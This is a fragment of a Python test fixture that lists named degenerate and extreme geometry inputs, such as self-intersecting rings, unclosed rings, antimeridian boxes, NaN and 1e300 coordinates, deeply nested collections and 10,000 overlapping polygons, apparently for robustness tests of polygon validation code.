    ("20,000 corners within 1e-12 degrees", _dense),
    ("bow tie", _raw_polygon([[_X, _Y], [_X + 0.01, _Y + 0.01], [_X + 0.01, _Y], [_X, _Y + 0.01], [_X, _Y]])),
    ("ring that touches itself", _raw_polygon(
        [[_X, _Y], [_X + 0.01, _Y], [_X + 0.005, _Y + 0.005], [_X + 0.01, _Y + 0.01], [_X, _Y + 0.01],
         [_X + 0.005, _Y + 0.005], [_X, _Y]])),
    ("empty ring", _raw_polygon([])),
    ("ring of two corners", _raw_polygon([[_X, _Y], [_X + 0.01, _Y]])),
    ("ring of one place", _raw_polygon([[_X, _Y]] * 4)),
    ("ring that is not closed", _raw_polygon([[_X, _Y], [_X + 0.01, _Y], [_X + 0.01, _Y + 0.01]])),
    ("hole outside", _raw_polygon([list(p) for p in _square(_X, _Y, 0.005)], [list(p) for p in _square(_X + 0.01, _Y, 0.005)])),
    ("hole as large as its ring", _raw_polygon(*[[list(p) for p in _square(_X, _Y, 0.005)]] * 2)),
    ("North Pole", box(-180, 89.9, 180, 90)),
    ("across the antimeridian", box(170, -10, 190, 10)),
    ("whole world", box(-180, -90, 180, 90)),
    ("area of a hair", box(_X, _Y, _X + 0.01, _Y + 1e-9)),
    ("line back and forth", _raw_polygon([[_X, _Y], [_X + 0.01, _Y], [_X, _Y]])),
    ("three dimensions with 1e300", '{"type":"Polygon","coordinates":[[[116.30,31.40,1e300],'
     "[116.32,31.40,-1e300],[116.32,31.44,0],[116.30,31.44,1],[116.30,31.40,1e300]]]}", True),
    ("NaN for a height", _half().replace("31.44]", "31.44, NaN]")),
    ("five dimensions", '{"type":"Polygon","coordinates":[[[116.30,31.40,1,2,3],[116.32,31.40,1,2,3],'
     "[116.32,31.44,1,2,3],[116.30,31.44,1,2,3],[116.30,31.40,1,2,3]]]}", True),
    ("collection of collections", '{"type":"GeometryCollection","geometries":['
     + '{"type":"GeometryCollection","geometries":[' * 20 + "]}" * 20 + "]}"),
    ("10,000 parts that overlap", lambda: MultiPolygon(
        [Polygon(_square(_X + i * 1e-7, _Y + i * 1e-7, 0.004)) for i in range(10_000)])),
)  # fmt: skip
